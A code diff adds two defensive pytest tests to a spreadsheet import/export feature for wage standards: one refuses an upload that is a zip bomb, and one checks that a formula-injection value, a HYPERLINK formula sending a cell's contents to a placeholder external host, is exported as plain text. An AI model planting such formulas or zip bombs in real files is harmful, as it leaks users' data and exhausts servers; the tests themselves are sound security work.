@@ -192,6 +192,55 @@ def test_an_exported_standard_imports_again_as_the_same_items(client, login, ses
     ]
 
 
+def test_a_zip_bomb_is_refused_as_too_large_when_unpacked(client, login, session, chair):
+    from tests.uploads.files import zip_bomb
+
+    login(chair)
+    bomb = zip_bomb(workbook(GOOD), 33 * 1024 * 1024)
+    assert len(bomb) < 1024 * 1024
+    response = post(client, bomb)
+    assert response.status_code == 400
+    (problem,) = workbook_problems(response.get_data(as_text=True))
+    assert "解压后" in problem and "32 MB" in problem
+    assert session.exec(select(SectorStandard)).first() is None
+
+
+LINK = '=HYPERLINK("http://e.example/?"&A3,"点此")'  # within a job category's 50 characters
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    client, login, session, chair, fmt
+):
+    """A standard and a job category named like a formula are exported as the text they are;
+    the figure beside them stays a number."""
+    import csv
+    import io
+
+    from openpyxl import Workbook, load_workbook
+
+    from spreadsheets.writing import put_text, workbook_bytes
+
+    book = Workbook()
+    book.active.append(["岗位工种", "项目", "数值", "单位"])
+    put_text(book.active, 2, 1, LINK)  # typed into the sheet as text, as a user would
+    for column, value in enumerate(["月工资标准", 2600, "元/月"], start=2):
+        book.active.cell(2, column, value)
+    login(chair)
+    location = post(client, workbook_bytes(book), title=LINK).headers["Location"]
+    exported = client.get(f"{location}.{fmt}")
+    assert exported.status_code == 200
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"), newline="")))
+        assert rows[1][:2] == ["'" + LINK, "月工资标准"]
+        assert float(rows[1][2]) == 2600  # a figure, not text behind an apostrophe
+        return
+    sheet = load_workbook(io.BytesIO(exported.data)).active
+    assert (sheet["A1"].value, sheet["A1"].data_type) == (LINK, "s")  # the title
+    assert (sheet["A3"].value, sheet["A3"].data_type) == (LINK, "s")  # the job category
+    assert (sheet["C3"].value, sheet["C3"].data_type) == (2600, "n")
+
+
 def _item_fields(session, location) -> dict[str, int]:
     standard_id = int(location.rsplit("/", 1)[1])
     items = session.exec(select(StandardItem).where(StandardItem.standard_id == standard_id)).all()
